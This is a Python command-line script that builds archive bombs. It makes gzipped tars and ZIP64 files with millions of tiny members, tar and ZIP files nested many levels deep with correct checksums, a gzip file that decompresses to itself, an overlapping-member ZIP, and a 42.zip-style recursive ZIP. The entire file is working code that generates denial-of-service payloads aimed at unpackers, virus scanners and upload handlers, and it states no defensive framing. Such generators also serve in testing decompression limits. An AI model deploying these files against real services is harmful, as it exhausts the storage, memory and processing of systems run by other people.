#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Makes archive bombs, each within seconds and without holding it unpacked.

usage: bombs.py KIND FILE [NUMBER]

members-tar  a gzipped tar of NUMBER members of one byte
members-zip  a ZIP64 of NUMBER members of one byte
nest-tar     a tar in a tar in a tar ..., NUMBER levels
nest-zip     a ZIP in a ZIP ..., NUMBER levels, every checksum right
quine        a gzip file that decompresses to itself, checksum included
overlap      a ZIP of NUMBER members that share their bytes (each quotes the
             headers of those behind it, then all end in the same zeros)
breed        a ZIP of 16 ZIPs of 16 ZIPs ..., NUMBER levels (42.zip's shape)
"""

import gzip
import struct
import sys
import zlib


# --- CRC-32 of joined texts, without the texts

POLY = 0xEDB88320


def times(a, b):
    """The product of two polynomials modulo that of CRC-32 (reflected)."""
    result = 0
    for _ in range(32):
        if a & 0x80000000:
            result ^= b
        a = (a << 1) & 0xFFFFFFFF
        b = b >> 1 ^ (POLY if b & 1 else 0)
    return result


def factor(length):
    """What length bytes behind it do to a CRC register, as a factor."""
    result, power = 0x80000000, 0x00800000
    while length:
        if length & 1:
            result = times(result, power)
        power = times(power, power)
        length >>= 1
    return result


def joined(crc_a, crc_b, factor_b):
    return times(factor_b, crc_a) ^ crc_b


# --- ZIP records

def local(name, crc, packed, size, method=0):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x5821,
                       crc, packed, size, len(name), 0) + name


def central(name, crc, packed, size, offset, method=0):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0,
                       0x5821, crc, packed, size, len(name), 0, 0, 0, 0, 0,
                       offset) + name


def end(count, length, offset):
    """The end of a directory, with the 64-bit form where it is needed."""
    long_form = b""
    if count > 0xFFFE or offset > 0xFFFFFFFE:
        long_form = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0,
                                count, count, length, offset)
        long_form += struct.pack("<IIQI", 0x07064B50, 0, offset + length, 1)
    return long_form + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0,
                                   min(count, 0xFFFF), min(count, 0xFFFF),
                                   length, min(offset, 0xFFFFFFFF), 0)


def tar_header(name, size):
    header = bytearray(512)
    header[0:len(name)] = name
    header[100:108] = b"0000644\0"
    header[108:116] = header[116:124] = b"0000000\0"
    header[124:136] = b"%011o\0" % size
    header[136:148] = b"00000000000\0"
    header[156:157] = b"0"
    header[257:265] = b"ustar\x0000"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


# --- the bombs

def members_tar(path, count):
    pad = bytes(511)
    with gzip.open(path, "wb", compresslevel=1) as out:
        for at in range(0, count, 1000):
            out.write(b"".join(tar_header(b"m/%07d" % i, 1) + b"%d" % (i % 10)
                               + pad for i in range(at, at + 1000)))
        out.write(bytes(1024))


def members_zip(path, count):
    offset = 0
    directory = []
    crcs = [zlib.crc32(b"%d" % i) for i in range(10)]
    with open(path, "wb") as out:
        for i in range(count):
            name = b"%07d" % i
            record = local(name, crcs[i % 10], 1, 1) + b"%d" % (i % 10)
            out.write(record)
            directory.append(central(name, crcs[i % 10], 1, 1, offset))
            offset += len(record)
        length = sum(map(len, directory))
        out.write(b"".join(directory))
        out.write(end(count, length, offset))


def nest_tar(path, levels):
    core = b"the core".ljust(512, b"\0")
    with open(path, "wb") as out:
        for level in range(levels - 1, -1, -1):
            name = b"core" if level == 0 else b"level-%d.tar" % level
            out.write(tar_header(name, 512 * level + (512 if level else 8)))
        out.write(core)


def nest_zip(path, levels):
    text = b"the core"
    crc, size = zlib.crc32(text), len(text)
    heads, tails = [], []
    factors = {}
    all_of_it = factor(size)
    for level in range(levels):
        name = b"core" if level == 0 else b"%d.zip" % level
        head = local(name, crc, size, size)
        directory = central(name, crc, size, size, 0)
        tail = directory + end(1, len(directory), len(head) + size)
        for part in (head, tail):
            if len(part) not in factors:
                factors[len(part)] = factor(len(part))
        crc = joined(joined(zlib.crc32(head), crc, all_of_it),
                     zlib.crc32(tail), factors[len(tail)])
        size += len(head) + len(tail)
        all_of_it = times(times(all_of_it, factors[len(head)]),
                          factors[len(tail)])
        heads.append(head)
        tails.append(tail)
    with open(path, "wb") as out:
        out.writelines(reversed(heads))
        out.write(text)
        out.writelines(tails)


def stored(length):
    """A deflate block that gives the next length bytes as they are."""
    return struct.pack("<BHH", 0, length, length ^ 0xFFFF)


def repeated(length):
    """
    A deflate block of 40 bits that gives the last length bytes again, length
    being 18 to 20: two matches of half of it (9 or 10, fixed codes without
    extra bits), so that the next block begins at a byte.
    """
    bits = "0" + "10"  # not the last block; fixed codes, low bit first
    for half in (length // 2, length - length // 2):
        bits += format(half - 2, "07b")  # symbol 257 is a match of 3
        bits += format(8, "05b")  # distances 17 to 24
        bits += format(length - 17, "03b")[::-1]
    bits += "0" * 7  # the end of the block
    assert len(bits) == 40
    return bytes(int(bits[i:i + 8][::-1], 2) for i in range(0, 40, 8))


def quine_with(crc, size):
    """
    Cox's construction (Zip Files All The Way Down, 2010): blocks that give
    literals (L) or repeat (R), each of 5 bytes, arranged so that what they
    give is what they are, a prefix P and a suffix S included.
    """
    prefix = b"\x1f\x8b\x08\x08\0\0\0\0\0\xffr.gz\0"
    suffix = b"\x01\0\0\xff\xff" + struct.pack("<II", crc, size)
    lit = [stored(5 * n) for n in range(5)]
    lit_p, rep_p = stored(len(prefix) + 5), repeated(len(prefix) + 5)
    lit_s, rep_s = stored(len(suffix) + 5), repeated(len(suffix) + 5)
    rep4 = repeated(20)
    return b"".join([
        prefix,
        lit_p, prefix, lit_p,
        rep_p,
        lit[1], rep_p,
        lit[1], lit[1],
        lit[4], rep_p, lit[1], lit[1], lit[4],
        rep4,
        lit[4], rep4, lit[4], rep4, lit[4],
        rep4,
        lit[4], rep4, lit[0], lit[0], lit_s,
        rep4,
        lit[0], lit[0],
        lit_s, rep_s, suffix,
        rep_s,
        suffix,
    ])


def quine(path, _):
    """
    The checksum stands in what it sums.  As a function of the 32 bits that
    stand there, it is linear over GF(2): f(c) = A c + f(0), and f(c) = c is
    a system of equations.
    """
    size = len(quine_with(0, 0))
    base = zlib.crc32(quine_with(0, size))
    rows = []
    for bit in range(32):
        # Column "bit" of A + I, with which inputs made it.
        image = zlib.crc32(quine_with(1 << bit, size)) ^ base ^ 1 << bit
        rows.append((image, 1 << bit))
    wanted, answer = base, 0
    for bit in range(32):
        pivot = next((r for r in rows if r[0] >> bit & 1), None)
        if pivot is None:
            if wanted >> bit & 1:
                raise SystemExit("no checksum fits this prefix")
            continue
        rows = [(r[0] ^ pivot[0], r[1] ^ pivot[1]) if r[0] >> bit & 1 else r
                for r in rows if r is not pivot]
        if wanted >> bit & 1:
            wanted ^= pivot[0]
            answer ^= pivot[1]
    data = quine_with(answer, size)
    assert gzip.decompress(data) == data
    with open(path, "wb") as out:
        out.write(data)


def overlap(path, count):
    """Fifield's construction (A better zip bomb, 2019), quoted overlap."""
    size = 64 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(bytes(size)) + packer.flush()
    kernel = zlib.crc32(bytes(size))
    records, crc, packed = [], kernel, len(data)
    for i in range(count - 1, -1, -1):
        if records:
            # This member quotes the header behind it, then goes on into it.
            quoted = records[-1][0]
            quote = stored(len(quoted))
            crc = joined(zlib.crc32(quoted), crc, factor(size))
            size += len(quoted)
            packed += len(quote) + len(quoted)
        else:
            quote = b""
        name = b"%06d" % i
        records.append((local(name, crc, packed, size, 8), quote,
                        (name, crc, packed, size)))
    records.reverse()
    offset, directory = 0, []
    with open(path, "wb") as out:
        for head, quote, (name, crc, packed, size) in records:
            directory.append(central(name, crc, packed, size, offset, 8))
            out.write(head + quote)
            offset += len(head) + len(quote)
        out.write(data)
        offset += len(data)
        out.write(b"".join(directory))
        out.write(end(count, sum(map(len, directory)), offset))


def breed(path, levels):
    data = b"the core"
    for _ in range(levels):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = packer.compress(data) + packer.flush()
        crc = zlib.crc32(data)
        body, directory = b"", b""
        for i in range(16):
            name = b"%x.zip" % i
            directory += central(name, crc, len(packed), len(data), len(body),
                                 8)
            body += local(name, crc, len(packed), len(data), 8) + packed
        data = body + directory + end(16, len(directory), len(body))
    with open(path, "wb") as out:
        out.write(data)


KINDS = {
    "members-tar": members_tar,
    "members-zip": members_zip,
    "nest-tar": nest_tar,
    "nest-zip": nest_zip,
    "quine": quine,
    "overlap": overlap,
    "breed": breed,
}

if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[1] not in KINDS:
        sys.exit(__doc__)
    KINDS[sys.argv[1]](sys.argv[2], int(sys.argv[3]) if sys.argv[3:] else 0)
